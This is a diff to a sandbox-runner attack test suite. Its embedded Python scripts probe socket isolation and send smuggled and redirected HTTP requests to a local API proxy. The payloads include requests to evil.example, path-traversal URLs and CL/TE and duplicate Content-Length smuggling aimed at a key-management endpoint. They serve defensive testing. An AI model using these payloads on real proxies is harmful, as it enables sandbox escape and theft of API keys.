@@ -39,7 +39,8 @@ struct RunnerAttackTests {
                     s = socket.socket(socket.AF_UNIX); s.connect(path); return "reached"
                 except OSError as error:
                     return error.strerror
-            print(reach(sys.argv[1] + "/s/r.sock"), reach(sys.argv[1] + "/s/g.sock"), reach("/run/egress.sock"))
+            here = sys.argv[1]
+            print(reach(here + "/s/r.sock"), reach(here + "/s/g.sock"), reach("/run/egress.sock"))
             E
             """)
         try session.folder.write("other/spool.jsonl", "another session's secret\n")
@@ -95,10 +96,11 @@ struct RunnerAttackTests {
             import socket
             key = "graftwork-placeholder-key"
             body = '{"model":"claude-sonnet-4-5","max_tokens":9,"messages":[{"role":"user","content":"x"}]}'
-            def ask(line, fields="", text=body):
+            def ask(line, fields=(), text=body):
                 s = socket.create_connection(("127.0.0.1", 17300))
-                request = "%s HTTP/1.1\\r\\nHost: evil.example\\r\\nx-api-key: %s\\r\\nConnection: close\\r\\n%s" % (line, key, fields)
-                s.sendall((request + ("" if "Length" in fields else "Content-Length: %d\\r\\n" % len(text)) + "\\r\\n" + text).encode())
+                lines = [line + " HTTP/1.1", "Host: evil.example", "x-api-key: " + key, "Connection: close"]
+                lines += fields or ["Content-Length: %d" % len(text)]
+                s.sendall(("\\r\\n".join(lines) + "\\r\\n\\r\\n" + text).encode())
                 answer = b""
                 try:
                     while True:
@@ -108,17 +110,19 @@ struct RunnerAttackTests {
                 except ConnectionResetError:
                     pass
                 return answer.split(b" ")[1].decode() if b" " in answer else "cut"
+            length = "Content-Length: %d" % len(body)
             refused = [
                 ask("CONNECT evil.example:443"), ask("POST http://evil.example/v1/messages"),
                 ask("POST //evil.example/anthropic/v1/messages"), ask("POST /openai/v1/responses"),
                 ask("POST /anthropic/v1/../../evil"), ask("POST /anthropic@evil.example/v1/messages"),
                 ask("POST /anthropic.evil.example/v1/messages"), ask("GET /anthropic/v1/files"),
-                ask("POST /anthropic/v1/messages", "Content-Encoding: gzip\\r\\n"),
+                ask("POST /anthropic/v1/messages", ["Content-Encoding: gzip", length]),
             ]
             # Two requests where a careless reader sees one, and the other way round.
             hidden = "POST /anthropic/v1/organizations/keys HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"
-            ask("POST /anthropic/v1/messages", "Content-Length: 0\\r\\nTransfer-Encoding: chunked\\r\\n", "0\\r\\n\\r\\n" + hidden)
-            ask("POST /anthropic/v1/messages", "Content-Length: %d\\r\\nContent-Length: 0\\r\\n" % len(body), body + hidden)
+            post = "POST /anthropic/v1/messages"
+            ask(post, ["Content-Length: 0", "Transfer-Encoding: chunked"], "0\\r\\n\\r\\n" + hidden)
+            ask(post, [length, "Content-Length: 0"], body + hidden)
             print(any(code.startswith("2") for code in refused), ask("POST /anthropic/v1/messages"))
             E
             """,
